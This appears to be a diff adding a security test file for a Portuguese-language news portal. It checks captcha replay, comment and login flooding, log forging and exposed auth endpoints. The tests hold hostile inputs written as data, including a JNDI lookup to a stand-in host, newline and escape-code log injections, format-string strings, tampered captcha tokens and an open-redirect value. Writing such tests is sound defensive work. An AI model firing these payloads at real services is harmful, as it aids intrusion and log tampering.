@@ -1,0 +1,234 @@
+/** Doing it again: solved captchas, comments, reports, sign-ins, messages. And lines of others in the log. */
+import { readFile } from 'node:fs/promises';
+import { expect, it } from 'vitest';
+import { solveAltcha } from '../solve-altcha.ts';
+import { ask, askJson, countInputs, expectAlive, inParallel, portal } from './attack.ts';
+import { commentId, newsId } from './portal-under-attack.ts';
+
+const captcha = countInputs('captcha replay');
+const floods = countInputs('report and comment flooding');
+const forging = countInputs('log forging');
+const surface = countInputs('the /api/auth surface');
+
+const message = {
+  nome: 'Caio',
+  titulo: 'Pauta',
+  email: 'caio@exemplo.com',
+  mensagem: 'Falem de impressoras.',
+};
+const sendMessage = (captchaToken: string, from?: string) =>
+  ask('/api/contato', { method: 'POST', body: { ...message, captchaToken }, ...(from ? { from } : {}) });
+
+it('a solved captcha works once, whoever sends it again, and an altered one never', async () => {
+  const challenge = await askJson('/api/captcha');
+  const token = await solveAltcha(challenge);
+  captcha(2);
+  const together = await Promise.all(Array.from({ length: 12 }, () => sendMessage(token)));
+  captcha(12);
+  expect(together.filter(({ status }) => status === 200).length).toBe(1);
+  const read = JSON.parse(Buffer.from(token, 'base64').toString());
+  const write = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64');
+  const altered = [
+    '',
+    'x',
+    token.slice(1),
+    `${token}=`,
+    token.toLowerCase(),
+    write(null),
+    write([]),
+    write({}),
+    write({ ...read, solution: { counter: 0 } }),
+    write({ ...read, challenge: { ...read.challenge, signature: 'a' } }),
+    write({
+      challenge: { ...read.challenge, parameters: { ...read.challenge.parameters, cost: 1 } },
+      solution: read.solution,
+    }),
+    write({ __proto__: null, ...read, verified: true }),
+    'a'.repeat(30_000),
+    '{"verified":true}',
+    'true',
+  ];
+  await inParallel(altered, async (text) => {
+    captcha();
+    const answer = await sendMessage(text);
+    expect(answer.status, text.slice(0, 40)).toBeGreaterThanOrEqual(400);
+    expect(answer.status, text.slice(0, 40)).toBeLessThan(500);
+  });
+  expect((await sendMessage(token)).status).toBe(400);
+});
+
+it('comments all at once: five a minute, and every one that was answered well is there once', async () => {
+  const answers = await Promise.all(
+    Array.from({ length: 30 }, (_, index) => {
+      floods();
+      return ask(`/news/${newsId}/comentarios`, {
+        method: 'POST',
+        as: 'demoted',
+        body: { comment: `Enchente ${index}.` },
+      });
+    }),
+  );
+  const taken = answers.filter(({ status }) => status === 201);
+  expect(taken.length).toBe(5);
+  for (const { status, headers } of answers) {
+    expect([201, 429]).toContain(status);
+    if (status === 429) expect(Number(headers.get('retry-after'))).toBeGreaterThan(0);
+  }
+});
+
+it('reports all at once: one of each person, and the comment stays where it is', async () => {
+  const answers = await Promise.all(
+    Array.from({ length: 40 }, (_, index) => {
+      floods();
+      return ask(`/comentarios/${commentId}/${index % 4 ? 'denunciar' : 'desfazer-denuncia'}`, {
+        method: 'POST',
+        as: 'other',
+        body: {},
+      });
+    }),
+  );
+  for (const { status } of answers) expect([200, 204, 400, 404, 409, 429]).toContain(status);
+  expect((await ask(`/news/uma-noticia-atacada`)).text).toContain('Concordo com o texto.');
+});
+
+it('signing in, registering and asking for mails are limited, however they are spelled', async () => {
+  const from = '2001:4860:aaaa:1::1';
+  const statuses: number[] = [];
+  for (let turn = 0; turn < 14; turn += 1) {
+    floods();
+    const email = turn % 2 ? ' VITIMA@exemplo.com ' : 'vitima@exemplo.com';
+    statuses.push(
+      (
+        await ask('/login', {
+          method: 'POST',
+          body: { email, password: `errada ${turn}` },
+          from: `2001:4860:aaaa:1::${turn}`,
+        })
+      ).status,
+    );
+  }
+  expect(statuses.filter((status) => status === 429).length).toBe(4);
+  const resets = await Promise.all(
+    Array.from({ length: 14 }, () =>
+      ask('/redefinir-senha', { method: 'POST', body: { email: portal.emails.reader }, from }),
+    ),
+  );
+  floods(14);
+  expect(resets.filter(({ status }) => status === 429).length).toBe(4);
+});
+
+it('nobody writes lines into the log that the program has not written', async () => {
+  const mark = 'LINHAFALSA';
+  const texts = [
+    `\n{"level":60,"msg":"${mark}"}`,
+    `\r\n${mark}`,
+    `%0a${mark}`,
+    `\u001b[2J${mark}`,
+    `\u001b]0;${mark}\u0007`,
+    `","level":60,"x":"${mark}`,
+    `\u2028${mark}`,
+    `\u0085${mark}`,
+    `\\n${mark}`,
+    `\${jndi:ldap://mal.exemplo/${mark}}`,
+    `%s%n%x${mark}`,
+    `\u0000${mark}`,
+    `\u0008\u0008${mark}`,
+  ];
+  await inParallel(texts, async (text) => {
+    forging(9);
+    const asHeader = text.replaceAll(/[^\x20-\x7e]/g, ' ');
+    const headers = {
+      'User-Agent': asHeader,
+      Referer: asHeader,
+      'X-Request-Id': asHeader,
+      'X-Forwarded-For': asHeader,
+    };
+    await ask(`/${encodeURIComponent(text)}`, { headers });
+    await ask(`/busca?q=${encodeURIComponent(text)}`, { headers });
+    await ask('/login', { method: 'POST', body: { email: `${text}@exemplo.com`, password: 'x' }, headers });
+    await ask('/contato', { method: 'POST', body: { ...message, nome: text, captchaToken: text }, headers });
+    await ask('/api/redacao/resumo', { headers: { ...headers, Cookie: `sessao=${asHeader}` } });
+  });
+  const log = await readFile(portal.logFile, 'utf8');
+  for (const line of log.split('\n')) {
+    if (line === '' || line.startsWith('Pauta em ')) continue;
+    const entry = JSON.parse(line);
+    expect(entry.level, line).toBeLessThan(60);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: that is what is looked for.
+    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028]/);
+  }
+});
+
+it('nothing of the library behind the accounts can be reached', async () => {
+  const names = [
+    'sign-in/email',
+    'sign-up/email',
+    'sign-out',
+    'get-session',
+    'list-sessions',
+    'session',
+    'update-user',
+    'change-email',
+    'change-password',
+    'set-password',
+    'delete-user',
+    'forget-password',
+    'request-password-reset',
+    'reset-password',
+    'verify-email',
+    'send-verification-email',
+    'sign-in/social',
+    'link-social',
+    'unlink-account',
+    'list-accounts',
+    'refresh-token',
+    'get-access-token',
+    'account-info',
+    'revoke-session',
+    'revoke-sessions',
+    'admin/set-role',
+    'admin/list-users',
+    'admin/impersonate-user',
+    'callback/github',
+    'callback',
+    'ok',
+    'error',
+    'two-factor/enable',
+    'token',
+    'jwks',
+    '.well-known/openid-configuration',
+  ];
+  await inParallel(names, async (name) => {
+    for (const method of ['GET', 'POST', 'PUT', 'DELETE']) {
+      surface();
+      const answer = await ask(`/api/auth/${name}`, {
+        method,
+        as: 'reader',
+        ...(method === 'GET' ? {} : { body: { email: portal.emails.admin, password: 'x', role: 'admin' } }),
+      });
+      expect(answer.status, `${method} ${name}`).toBe(404);
+    }
+  });
+  const states = ['', 'x', '__proto__', 'a'.repeat(3_000), "'", '%00'];
+  await inParallel(states, async (state) => {
+    surface(2);
+    for (const headers of [
+      {},
+      {
+        Cookie: `google=${Buffer.from(JSON.stringify({ state, nonce: state, codeVerifier: state, returnTo: '//mal.exemplo', isWindow: false })).toString('base64url')}`,
+      },
+    ]) {
+      const answer = await ask(
+        `/api/auth/callback/google?state=${encodeURIComponent(state)}&code=x&iss=https://mal.exemplo`,
+        { headers },
+      );
+      expect(answer.status, state).toBe(303);
+      expect(answer.headers.get('location'), state).toMatch(/^\/login\?/);
+      expect(
+        answer.headers.getSetCookie().some((line) => line.startsWith('sessao=')),
+        state,
+      ).toBe(false);
+    }
+  });
+  await expectAlive();
+});
